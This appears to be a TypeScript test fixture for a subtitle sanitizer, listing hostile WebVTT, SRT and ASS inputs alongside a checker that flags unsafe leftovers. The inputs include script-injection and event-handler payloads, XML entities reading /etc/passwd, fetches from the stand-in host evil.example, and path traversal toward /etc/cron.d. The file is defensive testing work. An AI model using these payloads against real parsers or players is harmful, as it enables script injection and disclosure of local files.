import type { SubtitleFormat } from "../../core/sidecar.ts";

/** Texts that want more than to be read (RELIABILITY T10): scripts, entities, files, floods. */
export interface HostileText {
  name: string;
  format: SubtitleFormat;
  text: string;
}

const TIME = "00:00:01.000 --> 00:00:02.000";
const vtt = (name: string, payload: string, head = ""): HostileText => ({
  name,
  format: "vtt",
  text: `WEBVTT\n${head}\n${TIME}\n${payload}\n`,
});
const srt = (name: string, payload: string): HostileText => ({
  name,
  format: "srt",
  text: `1\n00:00:01,000 --> 00:00:02,000\n${payload}\n\n`,
});
const ass = (name: string, payload: string, head = "", after = ""): HostileText => ({
  name,
  format: "ass",
  text: [
    `[Script Info]\nScriptType: v4.00+\n${head}`,
    "[V4+ Styles]\nFormat: Name, Fontname, Fontsize\nStyle: Default,Arial,20",
    "[Events]\nFormat: Layer, Start, End, Style, Name, MarginL, MarginR, MarginV, Effect, Text",
    `Dialogue: 0,0:00:01.00,0:00:02.00,Default,,0,0,0,,${payload}`,
    after,
  ].join("\n\n"),
});

const SCRIPT = "<script>alert(1)</script>";
const IMAGE = `<img src=x onerror="alert(1)">`;
const DTD = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;';

export const HOSTILE: readonly HostileText[] = [
  vtt("a script", SCRIPT),
  vtt("a script in capitals", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
  vtt("a script that is put together by dropping", "<scr<b>ipt>alert(1)</scr</b>ipt>"),
  vtt("a tag within a tag", "<b<script>>alert(1)</script>"),
  vtt("an image with a handler", IMAGE),
  vtt("a tag that never ends", '<img src=x onerror="alert(1)"'),
  vtt("a bold tag with a handler", '<b onclick="alert(1)">x</b>'),
  vtt("a voice that is a script", `<v ${"<script>"}>x</v>`),
  vtt("a voice with an escaped script", "<v &lt;script&gt;alert(1)&lt;/script&gt;>x</v>"),
  vtt("a voice with a handler", '<v a" onmouseover="alert(1)>x</v>'),
  vtt("a class with markup", '<c."onmouseover=alert(1)">x</c>'),
  vtt("a language with markup", '<lang en" onclick="alert(1)>x</lang>'),
  vtt("an escaped script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
  vtt("a script in numbers", "&#60;script&#62;alert(1)&#x3c;/script&#x3E;"),
  vtt("a script escaped twice", "&amp;lt;script&amp;gt;alert(1)"),
  vtt("numbers that are no character", "&#0;&#xd800;&#x110000;&#27;x"),
  vtt("an entity that reads a file", DTD),
  vtt("an XInclude", '<xi:include href="file:///etc/passwd"/>x'),
  vtt("a style that fetches", "x", "\nSTYLE\n::cue { background: url(http://evil.example/x.png) }\n"),
  vtt("a region", "x", "\nREGION\nid:r\nwidth:1000000%\n"),
  vtt("a note with a script", "x", `\nNOTE ${SCRIPT}\n`),
  vtt("a second header", "x\n\nWEBVTT\n\nSTYLE\n::cue{color:red}"),
  vtt("an arrow in the text", "x --> 00:00:09.000\nand more"),
  vtt("control characters", "a\u0000b\u001b[31mc\u0007\u009bd"),
  vtt("a tag split by a null", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"),
  vtt("deep nesting", `${"<i>".repeat(900)}x`),
  vtt("crossed tags", "<b><i>x</b></i><u></c></v>"),
  vtt("a foreign end tag", "x</body></html><svg onload=alert(1)>"),
  vtt("a link", '<a href="javascript:alert(1)">x</a>'),
  {
    name: "settings",
    format: "vtt",
    text: `WEBVTT\n\n${TIME} region:x line:999999 size:900% onclick:1 align:center;x\nx\n`,
  },
  {
    name: "a timestamp map",
    format: "vtt",
    text: `WEBVTT\nX-TIMESTAMP-MAP=MPEGTS:900000000,LOCAL:09:00:00.000\n\n${TIME}\nx\n`,
  },
  { name: "no header", format: "vtt", text: `<html>${SCRIPT}\n\n${TIME}\n${SCRIPT}\n` },
  {
    name: "cues without end",
    format: "vtt",
    text: `WEBVTT\n\n${"00:00:00.000 --> 99:00:00.000\nx\n\n".repeat(20_000)}`,
  },
  { name: "a line of arrows", format: "vtt", text: `WEBVTT\n\n${"-->".repeat(100_000)}\n` },
  srt("a script in SubRip", `${SCRIPT}${IMAGE}`),
  srt("a font with a handler", '<font color="red" onclick="alert(1)" face="file:///etc/passwd">x</font>'),
  srt("an entity in SubRip", DTD),
  ass("a script in ASS", `{\\b1}${SCRIPT}{\\b0}`),
  ass("a font from a path", "{\\fn/etc/passwd}x{\\fnfile:///etc/shadow}"),
  ass("an attached font", "x", "", "[Fonts]\nfontname: ../../../../etc/cron.d/x\n!!!!!!!!"),
  ass("a drawing", "{\\p1}m 0 0 l 100 0 100 100 0 100{\\p0}"),
  ass("a script file in the head", `${SCRIPT}`, "Audio File: /etc/passwd\nVideo File: http://evil.example/x"),
];

const WRITTEN_TAG =
  /^<(?:\/?(?:b|i|u|ruby|rt)|\/?c|\/?v|\/?lang|c(?:\.\w+)+|v [^<>"]+|lang [\w-]+|\d\d:\d\d:\d\d\.\d{3})>/;

/** What must not be in a WebVTT text that goes out; empty where it is harmless. */
export function harmIn(text: string): string[] {
  const tags = [...text.replaceAll(/^\S+ --> .*$/gm, "").matchAll(/<[^<>]*>?/g)]
    .map(([tag]) => tag)
    .filter((tag) => !WRITTEN_TAG.test(tag));
  const blocks = text.split("\n\n").filter((block) => !/^(WEBVTT|\d\d:|$)/.test(block.trim()));
  const controls = /[^\P{Cc}\n]/u.test(text) ? ["a control character"] : [];
  const entities = [...text.matchAll(/&(?!amp;|lt;|gt;|quot;).{0,20}/g)].map(([entity]) => entity);
  return [...tags, ...blocks, ...controls, ...entities, ...(text.includes("/etc/cron") ? ["a path"] : [])];
}
